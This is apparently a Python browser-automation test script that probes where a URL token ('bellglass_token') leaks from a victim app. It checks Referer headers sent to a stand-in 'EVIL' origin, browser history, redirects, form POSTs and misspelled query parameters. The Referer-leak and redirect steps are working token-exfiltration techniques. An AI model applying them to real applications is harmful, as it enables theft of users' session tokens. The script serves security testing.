"""Where the token of an address can be seen afterwards: Referer, opener, history, redirections of the application, POST, cookies that go in."""
import time
from common import *
with browser() as c:
    v = c.new_page(); v.goto(login("VICTIM", path="/first"))
    print("history:", v.evaluate("history.length"), "back:", end=" ")
    v.goto(origin("VICTIM") + page(html=f"<meta name=referrer content=unsafe-url><img src='{origin('EVIL')}/ref-img'><a id=a href='{origin('EVIL')}/ref-nav'>x</a>"))
    v.go_back(); print(v.evaluate("location.href").replace(E["VICTIM_TOKEN"], "TOKEN"))
    v.go_forward(); public("EVIL", 8000, True); v.reload(); time.sleep(.5); v.click("#a"); time.sleep(1)
    # an application that redirects at once, and one that is opened by another page
    v.goto(login("VICTIM", path=r("", [["location", origin("EVIL") + "/ref-redirect"], ["referrer-policy", "unsafe-url"]], 302))); time.sleep(1)
    e = c.new_page(); e.goto(login("EVIL")); e.goto(origin("EVIL") + page())
    print("form POST to the address with a token: page's location is", end=" ")
    v.goto(origin("VICTIM") + "/"); v.evaluate(f"(()=>{{let f=document.createElement('form');f.method='POST';f.action='/posted?bellglass_token={E['VICTIM_TOKEN']}';document.body.append(f);f.submit()}})()"); time.sleep(1.5)
    print(v.evaluate("location.pathname+location.search").replace(E["VICTIM_TOKEN"], "TOKEN"))
    # wrong spellings of the address, with the cookie that is there
    for q in ("?bellglass%5ftoken=", "?a=1;bellglass_token=", "?Bellglass_Token=", "?next=/x%3Fbellglass_token%3D", "#bellglass_token="):
        v.goto(origin("VICTIM") + "/spelled" + q + E["VICTIM_TOKEN"])
refs = [(q["p"], dict((k.lower(), x) for k, x in q["h"]).get("referer")) for q in json.loads(inside("EVIL", "/log")[2]) if q["p"].startswith("/ref-")]
print("referers that evil got:", [(p, (x or "").replace(E["VICTIM_TOKEN"], "TOKEN")) for p, x in refs]); public("EVIL", 8000, False)
log = json.loads(inside("VICTIM", "/log")[2])
print("requests in which victim's application got the token:", sorted({q["p"].replace(E["VICTIM_TOKEN"], "TOKEN") + " " + ",".join(k for k, x in q["h"] if E["VICTIM_TOKEN"] in x) for q in log if E["VICTIM_TOKEN"] in json.dumps(q)}))
